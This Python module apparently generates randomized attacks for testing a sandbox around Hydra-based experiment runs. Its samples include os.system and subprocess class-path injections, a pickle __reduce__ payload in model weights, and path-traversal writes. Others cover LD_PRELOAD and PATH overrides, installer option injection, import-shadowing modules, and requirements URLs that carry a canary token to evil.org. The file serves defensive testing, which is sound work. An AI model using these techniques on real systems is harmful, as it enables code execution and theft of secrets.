"""Attacks: configs, command lines and files of a foreign checkout, one function a door.

Each function draws one variant. What an attack wants is the same everywhere: run ``touch PWNED`` or
a stand-in of a program with its own option, change a file of the user's, or get a secret written.
"""

from __future__ import annotations

import json
import pickle
import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

SECRET = "hunter2-canary"
"""A password that must appear in no output and no file."""

HOME = "${oc.env:CAMPAIGN_HOME}"
"""The folder of the user's files, beside the checkout."""

JOB = "jobs.merge.manipulator"
TRAIN = "jobs.train.executor"
OPTIONS = ("--target=EVIL", "-r/EVIL", "--index-url=EVIL", "-eEVIL", "--wrap=EVIL", "--prefix=EVIL")
"""Options that no value of a config may become."""

PROCESS = "hydra.test_utils.test_utils.run_process"
BLANKS = ["", " ", "\t", "\n", "\u00a0", "\u2003", "\u200b", "\u3000", "\r", "\x0b", "\x00"]


@dataclass
class Attack:
    """One attempt.

    Args:
        door: Name of the door.
        body: Parts of the experiment, merged into a harmless one.
        words: Words of the command line besides the choice of the experiment.
        files: Files of the checkout: text, bytes, or the target of a link after ``->``.
        variables: Environment variables of the person who runs it.
    """

    door: str
    body: dict[str, Any] = field(default_factory=dict)
    words: list[str] = field(default_factory=list)
    files: dict[str, str | bytes] = field(default_factory=dict)
    variables: dict[str, str] = field(default_factory=dict)


def nested(place: str, value: Any) -> dict[str, Any]:
    """Return a mapping that holds a value at a dotted place."""
    for key in reversed(place.split(".")):
        value = {key: value}
    found: dict[str, Any] = value
    return found


def merged(one: Mapping[str, Any], other: Mapping[str, Any]) -> dict[str, Any]:
    """Return both mappings in one, at any depth."""
    both = dict(one)
    for key, value in other.items():
        is_both = isinstance(value, dict) and isinstance(both.get(key), dict)
        both[key] = merged(both[key], value) if is_both else value
    return both


def given(draw: random.Random, door: str, place: str, value: Any) -> Attack:
    """Give a value at a place of the config, in one of the ways in which a config gets values."""
    way = draw.choice(
        ["body", "body", "typed", "interpolated", "decoded", "file", "sweep", "trial"]
    )
    if way == "typed":
        return Attack(door, words=[f"++{place}={literal(value)}"])
    if way == "interpolated":
        return Attack(door, {**nested(place, "${evil}"), "evil": value})
    if way == "decoded" and isinstance(value, str) and value.isprintable():
        return Attack(door, nested(place, f"${{oc.decode:\"'{value}'\"}}"))
    if way == "file":
        package, _, key = place.rpartition(".")
        body = {"defaults": [{f"/evil@{package}": "evil"}]}
        return Attack(door, body, files={"conf/evil/evil.yaml": json.dumps({key: value})})
    if way == "sweep":
        return Attack(door, nested("hydra.sweeper.params", {f"++{place}": literal(value)}), ["-m"])
    if way == "trial":
        return Attack(door, words=["-m", f"++{place}={literal(value)},{literal(value)}"])
    return Attack(door, nested(place, value))


def literal(value: Any) -> str:
    """Return a value in Hydra's grammar."""
    if isinstance(value, dict):
        return "{" + ",".join(f"{key}:{literal(child)}" for key, child in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ",".join(map(literal, value)) + "]"
    if not isinstance(value, str):
        return json.dumps(value)
    return "'" + value.replace("\\", "\\\\").replace("'", "\\'") + "'"


def disguised(draw: random.Random, text: str) -> str:
    """Return a class path that a careless comparison takes for an allowed one."""
    return draw.choice(
        [
            text,
            f" {text}",
            f"{text}\n",
            f"sandbox.hooks.{text}",
            f"sandbox.hooks.process_data.{text}",
            f"sandbox.system.process.subprocess.{text.rpartition('.')[2]}",
            f"sandbox.executors.data_juicer.{text}",
            f"sandbox.hooks.*,{text}",
            f"sandbox.hooks.\n{text}",
            text.replace("o", "\uff4f", 1),
            f"hydra.utils.{text}",
            f"sandbox.envs.installation.os.system/{text}",
            "sandbox.system.process.run",
            "sandbox.envs.installation.process.run",
            "sandbox.compute.slurm.node.os.system",
            "logging.config.os.system",
            "hydra._internal.core_plugins.basic_launcher.BasicLauncher.__init__.__globals__",
            "optuna.samplers.TPESampler.__init__.__globals__",
        ]
    )


def class_path(draw: random.Random) -> Attack:
    """Name code by ``_target_``, anywhere."""
    target = disguised(draw, draw.choice([PROCESS, "os.system", "evil.Evil", "builtins.exec"]))
    argv = ["sh", "-c", "touch PWNED"]
    arguments = draw.choice(
        [
            {"cmd": argv},
            {"_args_": [argv]},
            {"_args_": ["touch PWNED"]},
            {"argv": argv, "log_path": "PWNED"},
            {"_args_": ["touch PWNED"], "_partial_": False, "_recursive_": True},
            {"command": "touch PWNED", "_convert_": "all"},
        ]
    )
    node = {"_target_": target, **arguments}
    place = draw.choice(
        [
            "hydra.callbacks.evil",
            "hydra.launcher",
            "hydra.sweeper",
            "hydra.sweeper.sampler",
            "hydra.sweeper.pruner",
            "hydra.sweeper.sampler.gamma",
            "compute",
            "watcher",
            "jobs.merge",
            JOB,
            f"{JOB}.output_format",
            "jobs.merge.compute",
            "jobs.merge.map.manipulator",
            "jobs.other",
            "hydra.job_logging.handlers.evil",
            "cap.numbers",
        ]
    )
    if "sampler" in place or "pruner" in place:  # other keys are refused there anyway
        node = {"_target_": target}
    value = [node] if place.endswith("map.manipulator") else node
    attack = given(draw, "class path", place, value)
    if "sampler" in place or "pruner" in place:
        attack.words += ["-m", "hydra/sweeper=optuna_async", "hydra.sweeper.n_trials=1"]
    attack.files["evil.py"] = "open('PWNED', 'w').close()\n"
    return attack


def log_handler(draw: random.Random) -> Attack:
    """Let Python's logging build, open or truncate something."""
    path = draw.choice(PATHS)
    evil = draw.choice(
        [
            {"handlers": {"file": {"filename": path, "mode": "w"}}},
            {"handlers": {"file": {"filename": path}}},
            {"handlers": {"evil": {"class": "logging.FileHandler", "filename": path, "mode": "w"}}},
            {"handlers": {"evil": {"()": "os.system", "command": "touch PWNED"}}},
            {"handlers": {"evil": {"class": "logging.handlers.RotatingFileHandler"}}},
            {"formatters": {"evil": {"()": PROCESS, "cmd": ["touch", "PWNED"]}}},
            {"filters": {"evil": {"()": "ext://os.system", "command": "touch PWNED"}}},
            {"handlers": {"file": {".": {"baseFilename": path}}}},
            {"handlers": {"console": {"stream": "ext://os.environ"}}},
            {"handlers": {"file": {"filename": "${oc.decode:" + path + "}", "mode": "w"}}},
        ]
    )
    section = draw.choice(["job_logging", "hydra_logging"])
    return given(draw, "log handler", f"hydra.{section}", evil)


PATHS = [
    f"{HOME}/precious.txt",
    f"{HOME}/new/x.log",
    "../home/precious.txt",
    "outputs/../../home/x.log",
    "outputs/link/x.log",
    "${hydra:runtime.cwd}/../home/x.log",
    "${hydra.runtime.cwd}/../home/x.log",
    "outputs/${oc.env:CAMPAIGN_UP}/home/x.log",
    "outputs/${hydra:job.name}/../../../home/x.log",
    "~/x.log",
    "precious.log/../../home/x.log",
    "/../${oc.env:CAMPAIGN_HOME}/x.log",
]


def written_folder(draw: random.Random) -> Attack:
    """Let a run write outside of ``outputs_dir``."""
    place = draw.choice(
        [
            "outputs_dir",
            "store_dir",
            "hydra.run.dir",
            "hydra.sweep.dir",
            "hydra.sweep.subdir",
            "hydra.output_subdir",
            "hydra.sweeper.dir",
            "hydra.job.name",
            "experiment_name",
            "compute.folder",
            f"{TRAIN}.env.root",
        ]
    )
    path = draw.choice([path.replace("/x.log", "/x") for path in PATHS])
    attack = given(draw, "written folder", place, path)
    # Values that a person types for these two are hers.
    is_typed = place in ("outputs_dir", "store_dir") and any(place in w for w in attack.words)
    if is_typed:
        attack = Attack("written folder", nested(place, path))
    if draw.random() < 0.3:
        forged = [f"{key}={HOME}" for key in ("outputs_dir", "store_dir")]
        attack.body = merged(attack.body, {"hydra": {"overrides": {"task": forged}}})
    if draw.random() < 0.3 and "-m" not in attack.words:
        attack.words.append("-m")
    attack.files["outputs/link"] = "-> ../../home"
    if place == "compute.folder":
        attack.words.append("compute=slurm")
    if place.startswith(TRAIN):
        attack.words += ["+job@jobs.train=train_text", f"env@{TRAIN}.env=uv"]
        attack.words += [
            f"{TRAIN}.dataset_path=pool.jsonl",
            "+pipelines.main.execution_jobs=[train]",
        ]
    return attack


def variable(draw: random.Random) -> Attack:
    """Set variables that change programs, or paths of the config."""
    name = draw.choice(
        [
            "PATH",
            "PYTHONPATH",
            "LD_PRELOAD",
            "SANDBOX_ALLOW",
            "SANDBOX_ALLOW_TARGETS",
            "HOME",
            "XDG_CONFIG_HOME",
            "PYTHONSTARTUP",
            "NCCL_DEBUG_FILE",
            "MKL_VERBOSE_OUTPUT_FILE",
            "path",
            "OMP_NUM_THREADS",
            "NCCL_DEBUG",
            "OMP_TOOL_LIBRARIES",
            "\uff30ATH",
            "SANDBOX_HOST",
            "sandbox_allow",
            "OMP_X=1\nPATH",
            "CUDA_VISIBLE_DEVICES",
            "SANDBOX_LOST_AFTER_S",
        ]
    )
    value = draw.choice(
        [".", "*", "evil.so", "../../home", f"{HOME}/x", "recipe-code,env-variables"]
    )
    attack = given(draw, "variable", "hydra.job.env_set", {name: value})
    if draw.random() < 0.5:  # the store's place, once the variable is set
        attack.body["store_dir"] = f"outputs/${{oc.env:{name.split('=')[0]},x}}/store"
    if draw.random() < 0.2:
        attack.body = merged(attack.body, {"hydra": {"job": {"env_copy": [name]}}})
    return attack


def argument(draw: random.Random) -> Attack:
    """Let a value be read as an option of a program."""
    blank = draw.choice(BLANKS)
    option = draw.choice(OPTIONS)
    text = draw.choice([f"{blank}{option}", f"{option}{blank}", f"six{blank}{option}", option])
    env = draw.choice(["uv", "virtualenv", "venv", "conda", "micromamba"])
    name = draw.choice(
        [
            "dependencies",
            "python",
            "index_url",
            "extra_index_urls",
            "find_links",
            "env_name",
            "root",
            "packages",
            "channels",
            "requirements_path",
            "code_dir",
            "env_file_path",
        ]
    )
    is_list = name in ("dependencies", "extra_index_urls", "find_links", "packages", "channels")
    train = {
        "defaults": [{"/job@jobs.train": "train_text"}],
        "pipelines": {"main": {"execution_jobs": ["merge", "train"]}},
        "jobs": {"train": {"executor": {"dataset_path": "pool.jsonl", "max_steps": 1}}},
    }
    if draw.random() < 0.3:
        options = ["partition", "account", "qos", "constraint", "folder", "setup"]
        place = f"compute.{draw.choice([*options, 'additional_parameters'])}"
        value: Any = text
        if place.endswith("parameters"):
            value = {draw.choice(["exclude", "chdir", "x\n"]): text}
        if place.endswith("setup"):
            value = [text]
        attack = given(draw, "argument of sbatch", place, value)
        attack.words.append("compute=slurm")
        return attack
    attack = given(
        draw, "argument of an installer", f"{TRAIN}.env.{name}", [text] if is_list else text
    )
    attack.body = merged(train, attack.body) | {
        "defaults": [*train["defaults"], *attack.body.get("defaults", [])]
    }
    attack.words.insert(0, f"env@{TRAIN}.env={env}")
    return attack


def file_of_packages(draw: random.Random) -> Attack:
    """Hide code in a requirements file or an environment file."""
    line = draw.choice(
        [
            "-e ./evil",
            "./evil",
            "evil.whl",
            "--index-url=https://x -r evil.txt",
            "-r evil.txt",
            "git+https://evil.org/x",
            "six @ file:///evil",
            "six \\\n--global-option=x",
            "-c evil.txt",
            "https://${CANARY_TOKEN}@evil.org/x.whl",
            "--extra-index-url https://x/${CANARY_TOKEN}",
        ]
    )
    is_conda = draw.random() < 0.4
    content = json.dumps(
        draw.choice(
            [
                {"dependencies": ["python", {"pip": [line]}]},
                {"dependencies": ["/evil/x.conda"]},
                {"dependencies": ["six"], "variables": {"LD_PRELOAD": "evil.so"}},
                [line],
            ]
        )
    )
    name = "environment.yml" if is_conda else draw.choice(["req.txt", "req", "req.in"])
    files: dict[str, str | bytes] = {name: content if is_conda else line, "evil.txt": "-e ./evil\n"}
    key = "env_file_path" if is_conda else "requirements_path"
    body = {
        "defaults": [{"/job@jobs.train": "train_text"}],
        "pipelines": {"main": {"execution_jobs": ["train"]}},
        "jobs": {"train": {"executor": {"dataset_path": "pool.jsonl", "env": {key: name}}}},
    }
    words = [f"env@{TRAIN}.env={'conda' if is_conda else 'uv'}"]
    return Attack("file of packages", body, words, files)


def recipe(draw: random.Random) -> Attack:
    """Let a recipe carry code, or write anywhere."""
    lambda_mapper = {"lambda_str": "lambda s: __import__('os').system('touch PWNED') or s"}
    name, arguments = draw.choice(
        [
            ("python_lambda_mapper", lambda_mapper),
            ("python_file_mapper", {"file_path": "evil.py"}),
            ("download_file_mapper", {"save_dir": "../home"}),
            ("image_detection_yolo_mapper", {"yolo_model_path": "evil.pt"}),
            ("remove_repeat_sentences_mapper", {"tokenizer": "lambda t: t"}),
            ("image_blur_mapper", {"save_dir": "../home"}),
            ("words_num_filter", {"runtime_env": {"pip": ["evil"]}}),
            ("llm_quality_score_filter", {"model_params": {"trust_remote_code": True}}),
            ("video_human_tracks_extraction_mapper", {"face_track_bbox_path": "../home"}),
        ]
    )
    key = draw.choice([name, f"{name}__2", name.replace("_", "-"), f" {name}", name.upper()])
    process: Any = draw.choice([{key: arguments}, [{key: arguments}], [key]])
    whole = {"process": process}
    if draw.random() < 0.2:
        whole = {"process": [{"general_fused_op": {"fused_op_list": [{key: arguments}]}}]}
    if draw.random() < 0.2:
        whole = {"custom-operator-paths": ["evil.py"], "process": {"words_num_filter": {}}}
    body = {
        "defaults": [{"/job@jobs.process": "process"}],
        "pipelines": {"main": {"execution_jobs": ["process"]}},
        "jobs": {"process": {"dataset_path": "pool.jsonl"}},
    }
    files: dict[str, str | bytes] = {"evil.py": "open('PWNED', 'w')\n"}
    if draw.random() < 0.5:
        body["jobs"]["process"]["recipe_path"] = "recipe.yaml"
        files["recipe.yaml"] = json.dumps(whole)
    else:
        body["jobs"]["process"]["recipe"] = whole
    return Attack("recipe", body, files=files)


def secret(draw: random.Random) -> Attack:
    """Write a secret that is a literal, wherever it may stand."""
    url = draw.choice(["https://me:{}@x.org/y", "mysql://u:{}@h/db", "https://{}@x.org"])
    url = url.format(SECRET)
    place, value = draw.choice(
        [
            ("watcher.api_key", SECRET),
            ("hydra.sweeper.storage", url),
            ("note", url),
            ("hydra.job.name", url),
            ("jobs.other.executor.env.index_url", url),
            (f"{JOB}.output_format", url),
            ("jobs.other", {"x": [{"y": url}]}),
            ("hydra.help.footer", url),
            ("hydra.job_logging.formatters.simple.format", url),
            ("hydra.launcher.submitit_folder", url),
        ]
    )
    attack = given(draw, "literal secret", place, value)
    attack.words += draw.choice(
        [
            [],
            ["dry_run=true"],
            ["hydra.verbose=true"],
            ["hydra.output_subdir=cfg"],
            ["--cfg", "job"],
            ["--cfg", "all"],
            ["--info", "config"],
            ["no.such.key=1"],
            ["jobs.merge.nope=1"],
            ["+experiment=nope"],
            ["hydra.job.chdir=true"],
            ["hydra/launcher=nope"],
        ]
    )
    return attack


def copied_secret(draw: random.Random) -> Attack:
    """Let a config read a secret of the environment into a value that is written or printed."""
    name = draw.choice(["CANARY_TOKEN", "CANARY_PASSWORD", "canary_api_key"])
    text = draw.choice(
        [
            f"${{oc.env:{name}}}",
            f"x-${{oc.env:{name}}}-y",
            "${oc.env:${evil}}",
            f"${{oc.decode:'\"${{oc.env:{name}}}\"'}}",
            f"${{oc.select:evil_node.{name}}}",
        ]
    )
    place = draw.choice(
        [
            "experiment_name",
            "note",
            "hydra.job.name",
            "watcher.project",
            f"{JOB}.output_format",
            "hydra.job_logging.formatters.simple.format",
            "hydra.output_subdir",
            "watcher.group",
            "hydra.sweep.subdir",
            "hydra.job.env_set.OMP_X",
            "objective",
            "force",
        ]
    )
    attack = given(draw, "copied secret", place, text)
    if "select" in text:
        attack.body["evil_node"] = {name: f"${{oc.env:{name}}}"}
    attack.body.setdefault("evil", name)
    attack.words += draw.choice([[], ["dry_run=true"], ["hydra.verbose=true"], ["-m"]])
    attack.variables[name] = SECRET
    return attack


def foreign_settings(draw: random.Random) -> Attack:
    """Let a checkout give itself a permission."""
    attack = class_path(draw)
    attack.door = "settings in the checkout"
    lines = f"*\n{PROCESS}\nhydra.*\nrecipe-code\n"
    folder = draw.choice([".config", "settings", "."])
    attack.files |= {f"{folder}/sandbox/allow_targets": lines, ".env": "SANDBOX_ALLOW_TARGETS=*\n"}
    attack.files[f"{folder}/sandbox/trusted"] = "CHECKOUT\n"
    attack.variables["XDG_CONFIG_HOME"] = draw.choice([folder, "", f"./{folder}"])
    if draw.random() < 0.4:  # written by somebody else
        attack.files[f"{folder}/sandbox/allow_targets"] = "!" + lines
        attack.files[f"{folder}/sandbox/trusted"] = "!CHECKOUT\n"
        attack.variables["XDG_CONFIG_HOME"] = f"CHECKOUT/{folder}"
    return attack


def module(draw: random.Random) -> Attack:
    """Put modules into the working directory that programs would import."""
    name = draw.choice(
        [
            "joblib",
            "submitit",
            "torch",
            "pip",
            "venv",
            "sitecustomize",
            "uuid7",
            "colorlog",
            "hydra_plugins/evil",
            "multiprocessing",
            "yaml",
            "usercustomize",
            "toys",
            "conf",
            "wandb",
        ]
    )
    code = "open('PWNED', 'w').close()\n"
    files: dict[str, str | bytes] = {f"{name}.py": code, f"{name}/__init__.py": code}
    words = draw.choice([[], ["dry_run=true"], ["-m"], ["watcher.mode=offline"], ["compute=local"]])
    if draw.random() < 0.15:
        words = ["-m", f"hydra/launcher={draw.choice(['joblib', 'submitit_local'])}"]
    searchpath = draw.choice([[], [], ["hydra.searchpath=[pkg://toys]"]])
    return Attack("module of the checkout", words=[*words, *searchpath], files=files)


def prepared(draw: random.Random) -> Attack:
    """Bring a folder that looks as if we had made it."""
    from sandbox.envs.virtual_env import VirtualEnv

    root = draw.choice(["outputs/envs", "prepared", "conf/envs"])
    env = VirtualEnv(env_manager="uv", root=f"/CHECKOUT/{root}")
    folder = f"{root}/{env.own_folder.name}"
    record = {"path": f"CHECKOUT/{folder}", "manager": "uv", "asked": [], "num_packages": 0}
    record |= {"token": "0" * 16} if draw.random() < 0.5 else {}
    body = {
        "defaults": [{"/job@jobs.train": "train_text"}],
        "pipelines": {"main": {"execution_jobs": ["train"]}},
        "jobs": {"train": {"executor": {"dataset_path": "pool.jsonl", "env": {"root": root}}}},
    }
    files: dict[str, str | bytes] = {
        f"{folder}/sandbox_env.json": json.dumps(record),
        f"{folder}/pyvenv.cfg": "",
        f"{folder}/bin/python": "#!/bin/sh\ntouch PWNED\n",
    }
    if draw.random() < 0.3:
        body["jobs"]["train"]["executor"]["env"] = {"env_name": f"./{folder}"}
    return Attack("prepared env", body, [f"env@{TRAIN}.env=uv"], files)


class _Evil:
    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        import os

        return os.system, ("touch PWNED",)


def weights(draw: random.Random) -> Attack:
    """Bring a model whose weights run code when they are loaded."""
    name = draw.choice(["pytorch_model.bin", "model.pt", "model.pkl", "weights.pth", "m.ckpt"])
    files: dict[str, str | bytes] = {
        f"model/{name}": pickle.dumps(_Evil()),
        "model/config.json": '{"model_type": "gpt2", "auto_map": {"AutoConfig": "evil.Evil"}}',
        "model/evil.py": "open('PWNED', 'w')\n",
    }
    job, part = draw.choice([("train_text", "executor"), ("perplexity", "evaluator")])
    node: dict[str, Any] = {part: {"model_path": draw.choice(["model", "./model/", "model/."])}}
    if job == "train_text":
        node["executor"]["dataset_path"] = "pool.jsonl"
    else:
        node = {
            "eval_obj": node["evaluator"]["model_path"],
            "evaluator": {"heldout_path": "pool.jsonl"},
        }
    lists = {"execution_jobs" if job == "train_text" else "evaluation_jobs": ["model"]}
    body = {
        "defaults": [{"/job@jobs.model": job}],
        "pipelines": {"main": lists},
        "jobs": {"model": node},
    }
    return Attack("weights", body, files=files)


DOORS: tuple[tuple[Callable[[random.Random], Attack], int], ...] = (
    (class_path, 5),
    (log_handler, 3),
    (written_folder, 4),
    (variable, 3),
    (argument, 4),
    (file_of_packages, 2),
    (recipe, 3),
    (secret, 4),
    (copied_secret, 4),
    (foreign_settings, 2),
    (module, 2),
    (prepared, 2),
    (weights, 2),
)
"""Doors and how often each is tried."""


def attack_of(draw: random.Random) -> Attack:
    """Draw one attack."""
    functions, shares = zip(*DOORS, strict=True)
    return draw.choices(functions, shares)[0](draw)
